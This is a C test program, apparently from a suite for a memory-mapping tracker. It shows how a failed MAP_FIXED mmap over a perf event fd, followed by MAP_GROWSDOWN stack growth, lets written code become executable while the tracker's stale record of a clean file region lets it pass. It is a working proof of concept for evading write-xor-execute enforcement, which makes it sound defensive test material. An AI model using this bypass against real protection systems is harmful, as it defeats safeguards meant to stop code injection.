/*
 * Attack: a MAP_FIXED mmap that fails after the kernel already unmapped
 * what was there. For a file mapping the kernel clears the old range before
 * calling the file's own mmap handler; when that handler refuses (a perf
 * event ring of a size that is not 1 + 2^n pages: EINVAL), the old mapping
 * is gone and a gap is left. A model that ignores failed calls keeps the
 * old, clean region there. Pages the kernel later puts in the gap without a
 * call (a MAP_GROWSDOWN region growing down on a fault) are then judged by
 * that stale region: a clean file page gaining exec, which strict allows.
 *
 *   file:  512 pages of /etc/passwd mapped private R-- (never writable);
 *          above it one MAP_GROWSDOWN RW page;
 *   fail:  mmap(MAP_FIXED, perf event fd, 512 pages) over the file region:
 *          EINVAL, the file region is gone;
 *   grow:  write code one page below the GROWSDOWN region (the kernel grows
 *          it into the gap), mprotect that page R-X, run.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/perf_event.h>
#include <sys/syscall.h>

#include "common.h"

#define FILE_PAGES 512

int main(void)
{
	size_t pg = tw_page();
	struct perf_event_attr attr;
	struct tw_map m;
	char *file, *grows, *below;
	int fd, perf;

	tw_init();
	fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 1;
	file = tw_mmap("file_mmap", NULL, (FILE_PAGES + 1) * pg, PROT_READ, MAP_PRIVATE, fd, 0);
	if (file == MAP_FAILED)
		return 1;
	grows = tw_mmap("growsdown_mmap", file + FILE_PAGES * pg, pg, TW_RW,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED | MAP_GROWSDOWN, -1, 0);
	if (grows == MAP_FAILED)
		return 1;
	memset(&attr, 0, sizeof(attr));
	attr.size = sizeof(attr);
	attr.type = PERF_TYPE_SOFTWARE;
	attr.config = PERF_COUNT_SW_DUMMY;
	perf = (int)syscall(SYS_perf_event_open, &attr, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	tw_step("perf_open", "perf_event_open", perf, errno);
	if (perf < 0)
		return tw_done();
	/* Fails in the perf mmap handler, after the file pages were unmapped. */
	tw_mmap("fixed_fail_mmap", file, FILE_PAGES * pg, PROT_READ, MAP_SHARED | MAP_FIXED, perf, 0);
	tw_show_map("after_fail", file);
	below = grows - pg;
	tw_put_code(below); /* a fault below the GROWSDOWN region grows it */
	if (tw_find_map(below, &m) != 0 || m.perms[1] != 'w')
		return tw_done();
	tw_show_map("grown", below);
	if (tw_mprotect("grown_rx_mprotect", below, pg, TW_RX) == 0)
		tw_run("grown_call", below);
	return tw_done();
}
